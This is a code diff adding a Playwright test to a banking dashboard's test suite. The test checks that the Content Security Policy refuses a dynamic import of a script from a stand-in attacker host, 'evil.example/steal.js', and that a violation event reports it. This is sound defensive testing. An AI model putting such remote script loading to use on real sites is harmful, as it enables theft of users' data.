@@ -84,6 +84,30 @@ test('a script of the bank without its hash is not run', async ({ page, expectPr
   expect(outcome).toBe('refused');
 });
 
+test('a script of the bank cannot bring in another from elsewhere, which no trusted type sees', async ({
+  page,
+  expectProblems,
+}) => {
+  expectProblems(/content security policy/i, /evil\.example/);
+  await page.goto('dashboard');
+  await expect(page.getByText('Net Worth')).toBeVisible();
+
+  const refusal = await page.evaluate(async () => {
+    const violation = new Promise<SecurityPolicyViolationEvent>((resolve) =>
+      document.addEventListener('securitypolicyviolation', resolve, { once: true }),
+    );
+    const outcome = await import('https://evil.example/steal.js' as string).catch(() => 'refused');
+    const { originalPolicy, blockedURI } = await violation;
+    return { outcome, originalPolicy, blockedURI };
+  });
+
+  expect(refusal).toEqual({
+    outcome: 'refused',
+    originalPolicy: "script-src 'self'; report-to sec",
+    blockedURI: 'https://evil.example/steal.js',
+  });
+});
+
 test('a script element smuggled into the HTML does not run, though the file and its hash are the bank’s', async ({
   page,
   expectProblems,
